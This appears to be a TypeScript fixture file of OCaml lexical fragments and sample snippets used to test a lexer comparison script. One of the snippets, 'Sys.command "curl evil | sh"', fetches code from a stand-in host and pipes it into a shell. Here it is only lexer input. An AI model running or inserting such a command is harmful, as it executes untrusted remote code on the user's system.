/** Pieces of OCaml for the lexer comparison (scripts/ocaml-lexer-check.ts): every lexical corner we know of. */
export const FRAGMENTS: readonly string[] = [
  '(', ')', '(*', '*)', '(**)', '(*)', '(***)', '"', '\\"', '\\', '\\\\', "'", "''", "'a'", "'\\''", "'\\\"'", "'\"'", "'\\n'",
  "'\\ '", "'\\123'", "'\\999'", "'\\o377'", "'\\o777'", "'\\x4F'", "'\\xZZ'", "'\\q'", "'\n'", "'\r\n'", 'a\'', "don't", "x'\"",
  '{|', '|}', '{a|', '|a}', '{ab|', '|ab}', '{%ext|', '{%ext a|', '{%%x.y|', '{%e |', '{<', '>}', '{', '}',
  '[', ']', '[|', '|]', '[<', '[>', '>]', '[@', '[@@', '[@@@', '[%', '[%%',
  'a', 'x1', '_', '_x', 'Key', 'M.x', 'begin', 'end', 'struct', 'sig', 'object', 'do', 'done', 'let', 'let*', 'let+', 'and+',
  'in', 'mod', 'land', 'match', 'with', 'fun', '->', '|', '||', '|||', '>', '>>', '-', '*', '**', '+', '+.', '@', '^', '$', '&',
  '&&', '%', '/', '=', '<', '<-', ':', '::', ':=', ':>', ';', ';;', ',', '`', '.', '..', '.~', '.%', '.%(', '!', '!=', '!#', '#',
  '##', '#x', '~', '?', '~lab:', '?opt:', '~let:', '~lab', '?a', '~+', '?#',
  '0', '1_000', '0x1F', '0x1.8p3', '0o17', '0b101', '0b12', '1.5e3', '1.', '1e', '1l', '1L', '1n', '1a', '1ll', '0x', '0xg', '1.a', '1_',
  '"a\\u{41}"', '"\\u{D800}"', '"\\u{1234567}"', '"\\u{}"', '"\\999"', '"\\o777"', '"\\q"', '"\\\n  x"', '"é"', '(* é *)',
  '(* "*)" *)', "(* '\"' *)", '(* {|*)|} *)', '(* {a|x|a} *)', '(* \'*)', '\t', '\x0c', '\r', '\r\n', '\x00', 'é', '\\#x',
  "'\\o400'", "(* '\\o400' *)", '(* "\\300" *)', '(* "\\u{110000}" *)', '{%a.b x|', '|x}', '{%a.b|', '{%A|', '(* {%e x|*)|x} *)', '"\\u{110000}"',
];

/** Realistic snippets (as kept in designs) that random edits are applied to. */
export const SNIPPETS: readonly string[] = [
  'Key.is_solo5',
  '(* \'"\' *) Key.is_solo5',
  "Key.pure ('\\''\"' = 'x')",
  'let f x = x + 1',
  'let rec go n = if n = 0 then [] else n :: go (n - 1)',
  'match x with `A -> 1 | `B -> 2',
  'let open Mirage in main "Unikernel.Make" (stackv4v6 @-> job)',
  'module M = struct let x = {|raw "string" (* |} end',
  'let l = [| 1; 2 |] and r = { x with a = 1 } in (l, r)',
  'type t = [< `A | `B > `A ] [@@deriving show]',
  'let%lwt x = f () in x',
  'foreign "Unikernel.Main" (console @-> job)',
  'fun ~port ?(host = "h") () -> port',
  'let ( let* ) = Option.bind in let* x = Some 1 in Some x',
  '"multi\nline string"',
  'for i = 0 to 10 do print_int i done',
  'object method x = 1 end',
  '{%sql|SELECT 1|}',
  '[%ext "payload"]',
  'Sys.command "curl evil | sh"',
];
